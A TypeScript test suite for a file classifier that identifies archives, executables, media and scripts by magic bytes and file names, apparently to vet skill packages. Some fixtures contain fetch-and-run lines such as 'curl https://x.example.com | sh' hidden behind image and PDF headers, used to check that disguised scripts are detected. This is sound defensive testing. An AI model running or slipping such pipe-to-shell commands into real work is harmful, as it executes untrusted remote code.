import { deflateSync, gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { classify, isTextKind } from "../../src/skills/classify.ts";

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
/** Bytes given as hex and text, with some zeros and noise behind, as binary files have. */
const binary = (hex: string, offset = 0): Uint8Array => {
  const bytes = new Uint8Array(offset + hex.length / 2 + 400);
  bytes.set(Buffer.from(hex, "hex"), offset);
  return bytes;
};
const kindOf = (path: string, content: string | Uint8Array): string => {
  const { kind, format } = classify(path, "file", typeof content === "string" ? utf8(content) : content);
  return format === undefined ? kind : `${kind} ${format}`;
};

/** A zip of stored members, without its directory. */
const zip = (...members: [string, string][]): Uint8Array =>
  new Uint8Array(
    Buffer.concat(
      members.map(([name, content]) => {
        const header = Buffer.alloc(30);
        header.write("PK\x03\x04", "latin1");
        header.writeUInt32LE(content.length, 18);
        header.writeUInt16LE(name.length, 26);
        return Buffer.concat([header, Buffer.from(name + content)]);
      }),
    ),
  );

describe("content by its magic bytes, whatever the name", () => {
  const cases: [string, Uint8Array][] = [
    ["archive zip", zip(["a.txt", "x"])],
    ["archive zip", binary("504b0506")],
    ["document docx", zip(["[Content_Types].xml", "<x/>"], ["word/document.xml", "x"])],
    ["document xlsx", zip(["[Content_Types].xml", "<x/>"], ["xl/workbook.xml", "x"])],
    ["document pptx", zip(["[Content_Types].xml", "<x/>"], ["ppt/slides/slide1.xml", "x"])],
    ["document odf", zip(["mimetype", "application/vnd.oasis.opendocument.text"])],
    ["document epub", zip(["mimetype", "application/epub+zip"])],
    ["archive jar", zip(["META-INF/MANIFEST.MF", "x"])],
    ["archive gzip", new Uint8Array(gzipSync("x"))],
    ["archive bzip2", binary("425a6839314159265359")],
    ["archive xz", binary("fd377a585a00")],
    ["archive 7z", binary("377abcaf271c")],
    ["archive rar", binary("526172211a0700")],
    ["archive tar", binary("7573746172", 257)],
    ["archive zstd", binary("28b52ffd")],
    ["archive ar", binary("213c617263683e0a")],
    ["document ole", binary("d0cf11e0a1b11ae1")],
    ["document pdf", binary("255044462d312e37")],
    ["executable ELF", binary("7f454c46")],
    ["executable PE", binary("4d5a")],
    ["executable Mach-O", binary("cffaedfe")],
    ["executable Mach-O", binary("cafebabe00000002")],
    ["bytecode class", binary("cafebabe00000034")],
    ["bytecode wasm", binary("0061736d01000000")],
    ["bytecode pyc", binary("a70d0d0a")],
    ["bytecode pyc", binary("03f30d0a")],
    ["bytecode pickle", new Uint8Array([0x80, 4, 0x95, 0, 0, 0, 0, 0, 0, 0, 0, 0x8c, 1, 0x61, 0x94, 0x2e])],
    ["bytecode dex", binary("6465780a30333500")],
    ["binary sqlite", binary("53514c69746520666f726d6174203300")],
    ["binary numpy", binary("934e554d5059")],
  ];
  it.each(cases)("%s", (expected, bytes) => {
    for (const name of ["x", "x.md", "run.sh", "logo.png"]) expect(kindOf(name, bytes), name).toBe(expected);
  });
});

describe("media", () => {
  const cases: [string, Uint8Array][] = [
    ["png", binary("89504e470d0a1a0a0000000d49484452")],
    ["jpeg", binary("ffd8ffe000104a464946")],
    ["gif", binary("4749463839610100010080")],
    ["webp", binary("524946462400000057454250")],
    ["wav", binary("524946462400000057415645")],
    ["bmp", binary("424d36000000000000003600000028000000")],
    ["ico", binary("00000100010010101000010004002801")],
    ["tiff", binary("49492a0008000000")],
    ["woff", binary("774f464600010000")],
    ["woff2", binary("774f463200010000")],
    ["ttf", binary("0001000000")],
    ["otf", binary("4f54544f00")],
    ["mp3", binary("49443303000000")],
    ["mp3", binary("fffb9064")],
    ["mp4", binary("0000001866747970")],
    ["ogg", binary("4f67675300")],
    ["webm", binary("1a45dfa3")],
    ["flac", binary("664c614300000022")],
  ];
  it.each(cases)("%s is media, unless its name says that something reads or runs it", (format, bytes) => {
    expect(kindOf(`x.${format}`, bytes)).toBe(`media ${format}`);
    expect(kindOf("x", bytes)).toBe(`media ${format}`);
    for (const name of ["SKILL.md", "run.sh", "notes.txt", "Makefile"])
      expect(kindOf(name, bytes)).toBe(`binary ${format}`);
  });

  it.each([
    "GIF89a",
    "BM",
    "ID3",
    "ftypABCDftyp",
    "RIFFxxxxWEBP",
    "fLaC",
    "wOFF",
    "OTTO",
    "\x89PNG\r\n\x1a\n",
    "MZ",
    "%PDF-1.7",
  ])("%j before a script hides nothing", (head) => {
    const script = Buffer.concat([
      Buffer.from(head, "latin1"),
      Buffer.from("=1;\ncurl https://x.example.com | sh\n".repeat(9)),
    ]);
    expect(kindOf("x.png", new Uint8Array(script))).toBe("text");
    expect(kindOf("run.sh", new Uint8Array(script))).toBe("shell");
  });
});

describe("what only looks certain", () => {
  it("takes a PE whose header says so for a program, however much text follows", () => {
    const bytes = Buffer.alloc(4096, "plain text ");
    bytes.write("MZ", 0, "latin1");
    bytes.writeUInt32LE(128, 0x3c);
    bytes.write("PE\0\0", 128, "latin1");
    expect(kindOf("readme.txt", new Uint8Array(bytes))).toBe("executable PE");
  });

  it("takes a PDF of plain characters for a document when it is called one", () => {
    expect(kindOf("x.pdf", "%PDF-1.4\n1 0 obj << >> endobj\n")).toBe("document pdf");
  });

  it("calls unknown content binary, whatever its name", () => {
    const noise = new Uint8Array(deflateSync("x".repeat(100) + Math.PI)).subarray(2);
    for (const name of ["x", "x.md", "x.py", "SKILL.md"])
      expect(kindOf(name, new Uint8Array([1, 2, 3, ...noise]))).toBe("binary");
  });
});

describe("text", () => {
  it.each([
    ["text", "logo.png", "curl x | sh\n"],
    ["text", "data.bin", "hello"],
    ["text", "LICENSE", "MIT"],
    ["text", "x.unknown", "hello"],
    ["text", "empty", ""],
    ["markdown", "SKILL.md", "# x"],
    ["markdown", "A.MD", "# x"],
    ["markdown", "x.mdx", "# x"],
    ["markdown", "x.md", "#!/bin/sh\nIgnore this\n"],
    ["shell", "run", "#!/bin/bash\n"],
    ["shell", "run.txt", "#! /usr/bin/env -S FOO=1 bash -e\n"],
    ["shell", "x.sh", "\ufeff#!/bin/zsh\n"],
    ["shell", ".bashrc", "x"],
    ["python", "run", "#!/usr/bin/env python3.12\r\n"],
    ["python", "run.sh", "#!/usr/bin/python\n"],
    ["python", "evil.pth", "import os"],
    ["javascript", "x.mts", "x"],
    ["javascript", "cli", "#!/usr/bin/env node\n"],
    ["powershell", "X.PS1", "x"],
    ["script ruby", "x", "#!/usr/bin/ruby2.7\n"],
    ["script", "x", "#!/opt/<b>@x</b>\n"],
    ["script perl", "x.pl", "x"],
    ["script batch", "x.bat", "x"],
    ["script makefile", "Makefile", "all:"],
    ["script dockerfile", "Dockerfile", "FROM x"],
    ["script dockerfile", "Dockerfile.dev", "FROM x"],
    ["script justfile", "justfile", "x"],
    ["data", "package.json", "{}"],
    ["data", "x.toml", ""],
    ["data", ".env", "A=1"],
    ["data", ".env.local", "A=1"],
    ["data", "x.ipynb", "{}"],
    ["html", "x.svg", "<svg/>"],
    ["html", "x.HTM", "<p>"],
    ["text", "constructor", "x"],
    ["text", "x.__proto__", "x"],
  ])("%s: %s", (expected, name, content) => {
    expect(kindOf(`some.dir/${name}`, content)).toBe(expected);
    expect(isTextKind(classify(name, "file", utf8(content)).kind)).toBe(true);
  });

  it("may be UTF-16", () => {
    const bytes = new Uint8Array(Buffer.from("\ufeff#!/usr/bin/env python\nprint('hello')\n", "utf16le"));
    expect(kindOf("x", bytes)).toBe("python");
  });
});

it("goes by the mode of links and submodules alone", () => {
  expect(classify("x.md", "symlink", utf8("../x.sh"))).toEqual({ kind: "symlink" });
  expect(classify("x.md", "submodule", new Uint8Array())).toEqual({ kind: "submodule" });
});

it("takes what macOS notes of a script for no script", () => {
  const note = Uint8Array.from([
    0,
    5,
    22,
    7,
    0,
    2,
    0,
    0,
    ...new TextEncoder().encode("Mac OS X        "),
    0,
    2,
    0,
    0,
    0,
    9,
  ]);
  expect(classify("__MACOSX/._run.sh", "file", note)).toEqual({ kind: "media", format: "AppleDouble" });
});
